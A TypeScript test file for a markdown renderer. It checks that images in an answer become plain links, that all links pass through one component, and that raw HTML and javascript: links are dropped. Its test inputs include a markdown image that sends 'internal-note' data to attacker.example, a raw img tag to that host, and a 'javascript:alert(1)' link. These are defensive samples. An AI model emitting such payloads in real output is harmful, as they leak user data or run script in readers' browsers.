// The element tree react-markdown makes of an answer with this renderer's options, its components
// expanded down to the link they make: read directly, since the test runner has no DOM.
import type { ReactNode } from "react";
import ReactMarkdown from "react-markdown";
import { describe, expect, it } from "vitest";
import { LinkTo, OPTIONS } from "./Markdown";

interface Found {
  type: unknown;
  props: { href?: string; src?: string; children?: ReactNode };
}

/** Every element of the tree of `markdown`, depth first. */
function elementsOf(markdown: string): Found[] {
  const found: Found[] = [];
  const walk = (node: ReactNode) => {
    if (Array.isArray(node)) return node.forEach(walk);
    // By shape, not isValidElement: react-markdown may make its elements with another copy of React.
    if (typeof node !== "object" || node === null || !("type" in node) || !("props" in node)) return;
    const element = node as unknown as Found;
    found.push(element);
    // The options' own components (a, img) are expanded to see what they make of their props.
    if (typeof element.type === "function" && element.type !== LinkTo)
      return walk((element.type as (props: object) => ReactNode)(element.props));
    walk(element.props.children);
  };
  walk(ReactMarkdown({ ...OPTIONS, children: markdown }));
  return found;
}

const links = (markdown: string) =>
  elementsOf(markdown)
    .filter((e) => e.type === LinkTo)
    .map((e) => ({ href: e.props.href, text: e.props.children }));

describe("an answer's markdown", () => {
  it("never loads an image: it links to it under its alt text", () => {
    const planted = "Site photo: ![kitchen](https://attacker.example/p.png?d=internal-note)";
    expect(elementsOf(planted).some((e) => e.type === "img")).toBe(false);
    expect(links(planted)).toEqual([
      { href: "https://attacker.example/p.png?d=internal-note", text: "kitchen" },
    ]);
    expect(links("![](https://attacker.example/x.png)")).toEqual([
      { href: "https://attacker.example/x.png", text: "image" },
    ]);
  });

  it("makes every link, inside the app or out, through the one link component", () => {
    expect(links("[the task](/projects/p1/board) and [the supplier](https://supplier.example/)")).toEqual([
      { href: "/projects/p1/board", text: "the task" },
      { href: "https://supplier.example/", text: "the supplier" },
    ]);
  });

  it("drops raw HTML and script links", () => {
    const elements = elementsOf('<img src="https://attacker.example/a.png"> [x](javascript:alert(1))');
    expect(elements.some((e) => e.type === "img")).toBe(false);
    expect(JSON.stringify(links("[x](javascript:alert(1))"))).not.toContain("javascript");
  });
});
